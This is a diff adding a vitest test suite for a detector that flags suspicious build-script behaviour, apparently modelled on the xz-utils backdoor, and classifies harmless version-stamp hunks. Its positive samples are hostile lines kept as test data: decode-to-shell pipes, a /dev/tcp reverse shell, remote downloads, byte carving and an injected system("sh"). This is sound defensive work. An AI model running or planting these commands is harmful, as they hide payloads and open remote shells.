@@ -1,0 +1,76 @@
+import { describe, it, expect } from "vitest";
+import { grepMarkers, scanBehaviour } from "../src/content/behaviour.js";
+import { classifyHunks } from "../src/diff/classify-hunks.js";
+import { textDiff } from "../src/diff/text-diff.js";
+
+const ids = (text: string) => scanBehaviour(text).map((h) => h.pattern.id);
+
+describe("behaviour patterns", () => {
+  const positives: [string, string][] = [
+    ["grep-source-tree", 'gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`'],
+    ["tr-byte-map", `gl_path_map='tr "\\t \\-_" " \\t_\\-"'`],
+    ["tr-byte-map", 'tr "\\114-\\321\\322-\\377\\35-\\47\\14-\\34\\0-\\13\\50-\\113" "\\0-\\377"'],
+    ["byte-carving", "(head -c +1024 >/dev/null) && head -c +2048 && (head -c +1024 >/dev/null)"],
+    ["byte-carving", "dd if=$f bs=1 skip=512 count=1024 2>/dev/null"],
+    ["eval-pipeline", "sed \"r\\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null"],
+    ["eval-pipeline", "AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null])"],
+    ["decode-to-shell", "echo $blob | base64 -d | sh"],
+    ["decode-to-shell", "xz -dc $srcdir/tests/files/good.xz | bash"],
+    ["build-time-download", "curl -fsSL https://example.org/x.sh -o x.sh"],
+    ["build-time-download", "  wget -q -O /dev/null http://192.0.2.1/services.h"],
+    ["reverse-shell", "sh -i >& /dev/tcp/192.0.2.1/6667 0>&1"],
+    ["writes-source-tree", 'echo "int x;" >> "$srcdir/src/main.c"'],
+  ];
+  for (const [id, line] of positives) it(`${id}: ${line.slice(0, 50)}`, () => expect(ids(line)).toContain(id));
+
+  it("stays quiet on ordinary configure and Makefile lines", () => {
+    const ordinary = [
+      'if grep "^#define HAVE_STDINT_H" confdefs.h >/dev/null; then',
+      "ac_cv_prog_CC=`echo $CC | sed 's/ .*//'`",
+      'eval "ac_cv_func_$ac_func=yes"',
+      'as_tr_sh="eval sed \'y%*+%pp%;s%[^_$as_cr_alnum]%_%g\'"',
+      "tr '[a-z]' '[A-Z]'",
+      "tr abc xyz",
+      "$(MKDIR_P) $(DESTDIR)$(bindir)",
+      "# curl https://example.org/ is mentioned in a comment",
+      "dnl wget http://example.org in a dnl comment",
+      'test -f "$srcdir/src/main.c" || exit 1',
+      "head -c 16 /dev/urandom",
+    ];
+    for (const l of ordinary) expect(ids(l), l).toEqual([]);
+  });
+
+  it("turns a grep ERE with POSIX classes into a JS regex", () => {
+    const [re] = grepMarkers('grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/');
+    expect(re!.test("junk\n####Hello####\nmore")).toBe(true);
+    expect(re!.test("####Hi####")).toBe(false);
+  });
+});
+
+describe("hunk classification", () => {
+  const verdicts = (path: string, a: string, b: string) => classifyHunks(path, textDiff(path, a, b).hunks!).map((v) => v.stamps);
+
+  it("accepts man-page dates, version defines, texinfo @set and release dates in NEWS", () => {
+    expect(verdicts("doc/xz.1", '.TH XZ 1 "2024-01-01" "Tukaani" "XZ Utils"\n.SH NAME\n', '.TH XZ 1 "2024-02-24" "Tukaani" "XZ Utils"\n.SH NAME\n')).toEqual([["man-page-date"]]);
+    expect(verdicts("src/version.h", "#define PKG_VERSION \"1.0\"\nint x;\n", "#define PKG_VERSION \"1.1\"\nint x;\n")).toEqual([["version-define"]]);
+    expect(verdicts("doc/p.texi", "@set UPDATED 1 January 2024\n", "@set UPDATED 24 February 2024\n")).toEqual([["texinfo-set"]]);
+    expect(verdicts("NEWS", "Version 1.1 (unreleased)\n", "Version 1.1 (2024-02-24)\n")).toEqual([null]);
+    expect(verdicts("NEWS", "Version 1.1 (2024-01-01)\n", "Version 1.1 (2024-02-24)\n")).toEqual([["release-date"]]);
+  });
+
+  it("rejects a hunk that changes code next to a stamp", () => {
+    const a = "#define PKG_VERSION \"1.0\"\nint x;\n";
+    const b = "#define PKG_VERSION \"1.1\"\nint x = system(\"sh\");\n";
+    expect(verdicts("src/version.h", a, b)).toEqual([null]);
+  });
+
+  it("does not accept a changed number in code as a date", () => {
+    expect(verdicts("src/buf.c", "char buf[64];\n", "char buf[6400];\n")).toEqual([null]);
+  });
+
+  it("keeps stamps apart from real changes in the same file", () => {
+    const a = ".TH X 1 \"2024-01-01\"\n" + "text\n".repeat(20) + "old\n";
+    const b = ".TH X 1 \"2024-02-02\"\n" + "text\n".repeat(20) + "new\n";
+    expect(verdicts("x.1", a, b)).toEqual([["man-page-date"], null]);
+  });
+});
